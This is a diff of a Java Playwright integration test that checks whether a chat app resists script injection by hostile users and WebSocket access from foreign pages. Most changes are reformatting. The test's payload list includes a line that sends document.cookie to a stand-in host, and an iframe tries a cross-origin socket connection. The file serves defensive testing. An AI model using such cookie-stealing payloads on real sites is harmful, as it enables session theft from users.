@@ -1,6 +1,7 @@
 package chat.snug.browser;
 
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import chat.snug.browser.Person.Screen;
@@ -19,7 +20,9 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
-/** What people write to take over the page of others (A6), and pages that use it from outside (A8). */
+/**
+ * What people write to take over the page of others (A6), and pages that use it from outside (A8).
+ */
 final class HostilePagesIT {
   private static final String[] CALLS = {
     "alert(1)", "window.__hit=1", "top.__hit=1", "fetch('//example.org/'+document.cookie)"
@@ -128,10 +131,11 @@ final class HostilePagesIT {
         Person ana = new Person(browsers.browser(), Screen.DESKTOP, "dark");
         TestClient hostile = TestClient.connect(server.port())) {
       List<String> hits = new ArrayList<>();
-      ana.page().onDialog(dialog -> {
-        hits.add(dialog.message());
-        dialog.dismiss();
-      });
+      ana.page()
+          .onDialog(dialog -> {
+            hits.add(dialog.message());
+            dialog.dismiss();
+          });
       ana.page()
           .addInitScript(
               "addEventListener('securitypolicyviolation', event => {"
@@ -145,13 +149,11 @@ final class HostilePagesIT {
       int named = 0;
       for (int i = 0; i < corpus.size(); i++) {
         String text = corpus.get(i);
-        JsonNode said =
-            hostile.call("message:send", "room", id, "cid", "c" + i, "text", text);
+        JsonNode said = hostile.call("message:send", "room", id, "cid", "c" + i, "text", text);
         assertThat(said.get("ok").asBoolean()).as(text).isTrue();
         if (text.length() <= 32 && i % 3 == 0) {
-          named += hostile.call("member:rename", "room", id, "name", text).get("ok").asBoolean()
-              ? 1
-              : 0;
+          named +=
+              hostile.call("member:rename", "room", id, "name", text).get("ok").asBoolean() ? 1 : 0;
         }
       }
       hostile.call("message:send", "room", id, "cid", "last", "text", "that was all");
@@ -178,7 +180,7 @@ final class HostilePagesIT {
     other.createContext(
         "/",
         exchange -> {
-          byte[] page = "<!doctype html><title>elsewhere</title>".getBytes("UTF-8");
+          byte[] page = "<!doctype html><title>elsewhere</title>".getBytes(UTF_8);
           exchange.getResponseHeaders().add("Content-Type", "text/html");
           exchange.sendResponseHeaders(200, page.length);
           exchange.getResponseBody().write(page);
@@ -197,10 +199,10 @@ final class HostilePagesIT {
           "<iframe sandbox=\"allow-scripts\" srcdoc=\"<script>"
               + "const s = new WebSocket('ws://"
               + host
-              + "/socket.io/?EIO=4&amp;transport=websocket');"
-              + "s.onopen = () => parent.postMessage('open', '*');"
-              + "s.onerror = () => parent.postMessage('refused', '*');</script>\"></iframe>"
-              + "<script>addEventListener('message', event => document.title = event.data)</script>");
+              + "/socket.io/?EIO=4&amp;transport=websocket');s.onopen = () =>"
+              + " parent.postMessage('open', '*');s.onerror = () => parent.postMessage('refused',"
+              + " '*');</script>\"></iframe><script>addEventListener('message', event =>"
+              + " document.title = event.data)</script>");
       page.waitForFunction("() => document.title !== ''");
       assertThat(page.title()).as("an origin of null").isEqualTo("refused");
       page.navigate("http://localhost:" + other.getAddress().getPort() + "/");
@@ -229,10 +231,17 @@ final class HostilePagesIT {
   private static ServerProcess start() {
     ServerProcess server =
         ServerProcess.start(
-            "--host", "127.0.0.1", "--port", "0", "--memory",
-            "--limits.messages", "1000/s:1000",
-            "--limits.address-messages", "1000/s:1000",
-            "--limits.room-messages", "1000/s:1000");
+            "--host",
+            "127.0.0.1",
+            "--port",
+            "0",
+            "--memory",
+            "--limits.messages",
+            "1000/s:1000",
+            "--limits.address-messages",
+            "1000/s:1000",
+            "--limits.room-messages",
+            "1000/s:1000");
     server.url();
     return server;
   }
